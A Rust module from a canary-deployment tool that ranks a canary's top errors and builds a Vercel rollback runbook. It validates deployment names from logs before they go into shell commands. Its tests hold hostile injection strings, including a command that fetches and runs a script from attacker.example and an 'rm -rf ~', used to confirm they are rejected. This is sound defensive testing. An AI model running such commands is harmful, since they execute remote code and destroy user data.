//! What to show and do when the decision is ROLLBACK: the canary's top
//! offending errors, and the rollback runbook's steps filled in with the
//! deployment to promote back to.
//!
//! The runbook is copied into a shell, and the deployment it names comes
//! from the logs: a name that is not a deployment id (`dpl_…`) or URL host
//! is never put into a command.

use std::borrow::Cow;
use std::collections::BTreeMap;

use super::groups::OffenderCounts;
use super::report::Offender;
use super::scope::Scope;

/// How many offenders a report lists.
pub const TOP_OFFENDERS: usize = 5;

/// Count and first sample per (error key, route), borrowed.
type Groups<'a> = BTreeMap<(Cow<'a, str>, &'a str), (u64, Option<&'a str>)>;

/// The canary's errors grouped by (error key, route), most frequent first:
/// its failing requests ([`OffenderCounts`]), and error lines that belong
/// to no request.
pub fn top_offenders(scope: &Scope, requests: &OffenderCounts) -> Vec<Offender> {
    let mut groups = Groups::new();
    for (key, route, count, sample) in requests.groups() {
        groups.insert((Cow::Borrowed(key), route), (count, sample));
    }
    for (key, route, count, sample) in scope.canary_flagged.errors() {
        let entry = groups
            .entry((Cow::Borrowed(key), route))
            .or_insert((0, None));
        entry.0 += count;
        entry.1 = entry.1.or(sample);
    }
    let mut ranked: Vec<_> = groups.into_iter().collect();
    // Stable: equal counts stay in key order.
    ranked.sort_by_key(|(_, (count, _))| std::cmp::Reverse(*count));
    ranked.truncate(TOP_OFFENDERS);
    // Only what is shown is redacted (the regex is the costly part), and
    // bounded as shown: a path from a log can carry a token or an email,
    // and samples are kept raw (see `observe`).
    (ranked.into_iter())
        .map(|((error_key, route), (count, sample))| Offender {
            error_key: error_key.into_owned(),
            route: crate::redact::sample(route, 200),
            count,
            sample: sample.map(|s| crate::redact::sample(s, super::observe::SAMPLE_CHARS)),
        })
        .collect()
}

/// Whether `name` is safe to paste into a shell command as a deployment: a
/// deployment id (`dpl_` and letters or digits) or a URL host (letters,
/// digits, dots and dashes).
pub fn is_deployment_name(name: &str) -> bool {
    let id = name
        .strip_prefix("dpl_")
        .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_alphanumeric()));
    let host = !name.is_empty()
        && name.len() <= 253
        && name.contains('.')
        && !name.starts_with(['.', '-'])
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    (id || host) && name.len() <= 253
}

/// The rollback runbook's procedure, in order, as copy-pasteable commands.
/// A last good deployment whose name is not a deployment id or host is left
/// as a placeholder, never pasted into a command.
pub fn runbook(canary: &str, last_good: Option<&str>) -> Vec<String> {
    let target = last_good
        .filter(|g| is_deployment_name(g))
        .unwrap_or("<last-good-deployment-url>");
    let canary = if is_deployment_name(canary) {
        canary
    } else {
        "the canary"
    };
    vec![
        format!(
            "vercel list --environment production --limit 5   # confirm the last good deployment before {canary}"
        ),
        format!("vercel promote {target}   # roll production back"),
        format!("vercel logs {target}   # verify: no new error patterns after the rollback"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn runbook_names_the_last_good_deployment() {
        let steps = runbook("dpl_new", Some("dpl_old"));
        assert!(steps[0].starts_with("vercel list --environment production --limit 5"));
        assert!(steps[1].starts_with("vercel promote dpl_old"));
        assert!(steps[2].starts_with("vercel logs dpl_old"));
        assert!(runbook("dpl_new", None)[1].contains("<last-good-deployment-url>"));
    }

    #[test]
    fn names_from_the_logs_never_reach_a_command_unchecked() {
        for hostile in [
            "dpl_ok$(curl -s https://attacker.example/x.sh|sh)",
            "dpl_ok; rm -rf ~",
            "app.vercel.app`id`",
            "dpl_",
            "-rf",
            "a b.vercel.app",
        ] {
            let steps = runbook(hostile, Some(hostile)).join("\n");
            assert!(!steps.contains(hostile), "{hostile}: {steps}");
            assert!(steps.contains("<last-good-deployment-url>"));
        }
        assert!(
            runbook("x", Some("my-app-abc123-acme.vercel.app"))[1]
                .starts_with("vercel promote my-app-abc123-acme.vercel.app ")
        );
    }
}
